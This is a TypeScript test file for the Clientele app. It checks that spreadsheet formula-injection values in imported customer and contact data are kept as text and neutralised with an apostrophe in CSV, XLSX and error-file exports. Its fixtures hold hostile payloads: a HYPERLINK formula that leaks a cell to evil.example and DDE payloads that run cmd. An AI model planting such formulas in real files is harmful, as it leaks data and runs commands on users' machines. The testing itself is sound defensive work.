/**
 * Formula injection, end to end: values a spreadsheet would run are stored as the text they are, and every file
 * Clientele writes (customers and contacts exports in CSV and XLSX, in both languages, and an import's error file)
 * neutralises them with a leading apostrophe; importing an export gives back the original text.
 */
import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Actor, ServiceContext } from '../../src/services/context.ts';
import { exportRecords } from '../../src/services/export-records.ts';
import { errorFile } from '../../src/services/imports/error-file.ts';
import { buildZip } from '../fixtures/zip.ts';
import { buildOrganization, buildPlan } from '../helpers/builders.ts';
import { createTestContext } from '../helpers/db.ts';
import { contactsOf, csv, customersOf, dataFingerprint, rowVersions } from '../helpers/imports.ts';
import { sheetOf, workbookOf } from './fixtures.ts';
import { imported, runFile } from './pipeline.ts';

const ctx: ServiceContext = await createTestContext();

/** What a spreadsheet runs when a cell starts with it. */
const TRIGGER = /^[=+\-@\t\r]/;

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const DDE = "+cmd|' /C calc'!A0";
const ARITHMETIC = '-1+1';
const AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLAN = '@SUM(A1:A9)';

const CUSTOMER_HEADER = [
  'Name',
  'External ID',
  'Email',
  'Address line 1',
  'City',
  'Postal code',
  'Dunning plan',
];
const CUSTOMERS = [
  [HYPERLINK, '=1+2', '=1+1@evil.example', AT_SUM, ARITHMETIC, '-75001', PLAN],
  [DDE, '+33', '+tag@evil.example', '\t=TAB()', '\r=CR()', '@1', ''],
  [ARITHMETIC, '-9', '-dash@evil.example', "'=already guarded", "''=twice", '=0', ''],
];
/** How each customer is stored: as written, trimmed (a leading tab or CR is space), one guard apostrophe read off. */
const STORED_CUSTOMERS = [
  {
    name: HYPERLINK,
    external_id: '=1+2',
    email: '=1+1@evil.example',
    address_line1: AT_SUM,
    city: ARITHMETIC,
  },
  { name: DDE, external_id: '+33', email: '+tag@evil.example', address_line1: '=TAB()', city: '=CR()' },
  {
    name: ARITHMETIC,
    external_id: '-9',
    email: '-dash@evil.example',
    address_line1: '=already guarded',
    city: "'=twice",
  },
];

const CONTACT_HEADER = ['Customer name', 'Email', 'First name', 'Last name', 'Reference'];
const CONTACTS = [
  [HYPERLINK, '=hyper@evil.example', DDE, '+Plus', '@ref'],
  [DDE, 'at@evil.example', AT_SUM, '-Minus', '=REF()'],
];

let actor: Actor;

async function written(...args: Parameters<typeof exportRecords>): Promise<Buffer> {
  const sink = new PassThrough();
  const parts: Buffer[] = [];
  sink.on('data', (d: Buffer) => parts.push(d));
  await exportRecords(...args).writeTo(sink);
  return Buffer.concat(parts);
}

async function collected(chunks: AsyncIterable<Buffer>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const c of chunks) parts.push(c);
  return Buffer.concat(parts);
}

/** Every cell of a CSV as a spreadsheet would see it (quotes removed, nothing else touched). */
function csvCells(bytes: Buffer): string[] {
  const text = bytes.toString('utf8').replace(/^\ufeff/, '');
  const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
  return parsed.data.flat();
}

/** Every cell of the first sheet of a workbook, failing on any formula. */
async function xlsxCells(bytes: Buffer): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells: string[] = [];
  wb.worksheets[0]!.eachRow((row) =>
    row.eachCell((cell) => {
      expect(cell.type, String(cell.address)).not.toBe(ExcelJS.ValueType.Formula);
      cells.push(String(cell.value));
    }),
  );
  return cells;
}

function expectNeutralised(cells: string[], mustHold: string[]): void {
  expect(cells.filter((c) => TRIGGER.test(c))).toEqual([]);
  for (const value of mustHold) expect(cells).toContain(`'${value}`);
}

beforeAll(async () => {
  actor = await buildOrganization(ctx);
  await buildPlan(ctx, actor, PLAN);
  const customers = imported(
    await runFile(ctx, actor, 'customers', Buffer.from(csv([CUSTOMER_HEADER, ...CUSTOMERS])), 'c.csv'),
  );
  expect(customers.errors).toEqual([]);
  const contacts = imported(
    await runFile(ctx, actor, 'contacts', Buffer.from(csv([CONTACT_HEADER, ...CONTACTS])), 'k.csv'),
  );
  expect(contacts.errors).toEqual([]);
});

describe('15. formula injection', () => {
  it('values a spreadsheet would run are stored as the text they are', async () => {
    const customers = await customersOf(ctx, actor.organizationId);
    for (const expected of STORED_CUSTOMERS) {
      expect(customers.find((c) => c.name === expected.name)).toMatchObject(expected);
    }
    const { rows } = await ctx.system.pool.query(
      'select postal_code, vat_number from customers where organization_id = $1 and name = $2',
      [actor.organizationId, HYPERLINK],
    );
    expect(rows[0].postal_code).toBe('-75001');
    const contacts = await contactsOf(ctx, actor.organizationId);
    expect(contacts).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          customer: HYPERLINK,
          email: '=hyper@evil.example',
          first_name: DDE,
          last_name: '+Plus',
          reference: '@ref',
        }),
        expect.objectContaining({
          customer: DDE,
          email: 'at@evil.example',
          first_name: AT_SUM,
          last_name: '-Minus',
          reference: '=REF()',
        }),
      ]),
    );
  });

  it('a formula cell of a workbook imports as its shown value, never as its formula', async () => {
    const org = await buildOrganization(ctx);
    const sheet = sheetOf([
      ['Name', 'City'],
      [{ raw: '<c t="str"><f>HYPERLINK("http://evil.example","Click")</f><v>Formula SA</v></c>' }, 'Paris'],
      ['Text SA', '=1+1'],
    ]);
    const s = imported(
      await runFile(ctx, org, 'customers', buildZip(workbookOf([], { sheetXml: sheet })), 'f.xlsx'),
    );
    expect(s.lines).toMatchObject({ created: 2, error: 0 });
    expect((await customersOf(ctx, org.organizationId)).map((c) => [c.name, c.city])).toEqual([
      ['Formula SA', 'Paris'],
      ['Text SA', '=1+1'],
    ]);
  });

  for (const lang of ['en', 'fr'] as const) {
    it(`customers and contacts exports in CSV (${lang}) neutralise every such cell`, async () => {
      const customers = csvCells(await written(ctx, actor, { entity: 'customers', format: 'csv', lang }));
      expectNeutralised(customers, [HYPERLINK, DDE, ARITHMETIC, AT_SUM, '=1+1@evil.example', PLAN]);
      const contacts = csvCells(await written(ctx, actor, { entity: 'contacts', format: 'csv', lang }));
      expectNeutralised(contacts, [HYPERLINK, DDE, '=hyper@evil.example', '+Plus', '@ref', '=REF()']);
    });

    it(`customers and contacts exports in XLSX (${lang}) hold text cells, every such cell neutralised`, async () => {
      const customers = await xlsxCells(
        await written(ctx, actor, { entity: 'customers', format: 'xlsx', lang }),
      );
      expectNeutralised(customers, [HYPERLINK, DDE, ARITHMETIC, AT_SUM, PLAN]);
      const contacts = await xlsxCells(
        await written(ctx, actor, { entity: 'contacts', format: 'xlsx', lang }),
      );
      expectNeutralised(contacts, [HYPERLINK, DDE, '+Plus', '@ref']);
    });
  }

  it('the error file of an import neutralises the refused cells, the headers and the messages', async () => {
    const org = await buildOrganization(ctx);
    const file = csv([
      ['Name', '=Email', '=HYPERLINK("http://evil.example")', 'City'],
      // Refused for its value past the header (extra_cells), which the error file still shows, neutralised.
      [HYPERLINK, 'not an email', DDE, ARITHMETIC, '@beyond the header'],
      ['=1+1', 'not an email', '', 'Lyon'],
      ['Fine SA', 'ok@fine.example', '', 'Paris'],
    ]);
    const s = imported(await runFile(ctx, org, 'customers', Buffer.from(file), 'errors.csv'));
    expect(s.lines).toMatchObject({ created: 1, error: 2 });
    const result = await errorFile(ctx, org, s.id);
    if (!result.ok) throw new Error(result.error.code);
    const cells = csvCells(await collected(result.value.body));
    expectNeutralised(cells, [
      '=Email',
      '=HYPERLINK("http://evil.example")',
      HYPERLINK,
      DDE,
      ARITHMETIC,
      '@beyond the header',
      '=1+1',
    ]);
    expect(cells).toContain(
      "'=Email: Invalid email address: write one address like name@company.com, without spaces",
    );
  });

  it('export then import gives back the original text: all unchanged in place, equal in a new organization', async () => {
    const versions = await rowVersions(ctx, actor.organizationId);
    const original = await dataFingerprint(ctx, actor.organizationId);
    for (const format of ['csv', 'xlsx'] as const) {
      for (const lang of ['en', 'fr'] as const) {
        const label = `${format} ${lang}`;
        const customers = await written(ctx, actor, { entity: 'customers', format, lang });
        const contacts = await written(ctx, actor, { entity: 'contacts', format, lang });
        const again = imported(await runFile(ctx, actor, 'customers', customers, `customers.${format}`));
        expect(again.lines, label).toMatchObject({ created: 0, updated: 0, error: 0, unchanged: 3 });
        const againContacts = imported(await runFile(ctx, actor, 'contacts', contacts, `contacts.${format}`));
        expect(againContacts.lines, label).toMatchObject({ created: 0, updated: 0, error: 0, unchanged: 2 });

        const fresh = await buildOrganization(ctx);
        await buildPlan(ctx, fresh, PLAN);
        imported(await runFile(ctx, fresh, 'customers', customers, `customers.${format}`));
        imported(await runFile(ctx, fresh, 'contacts', contacts, `contacts.${format}`));
        expect(await dataFingerprint(ctx, fresh.organizationId), label).toEqual(original);
        const plans = await ctx.system.pool.query(
          `select p.name from customers c join dunning_plans p on p.organization_id = c.organization_id
             and p.id = c.dunning_plan_id where c.organization_id = $1`,
          [fresh.organizationId],
        );
        expect(
          plans.rows.map((r) => r.name),
          label,
        ).toEqual([PLAN]);
      }
    }
    expect(await rowVersions(ctx, actor.organizationId)).toEqual(versions);
  });
});
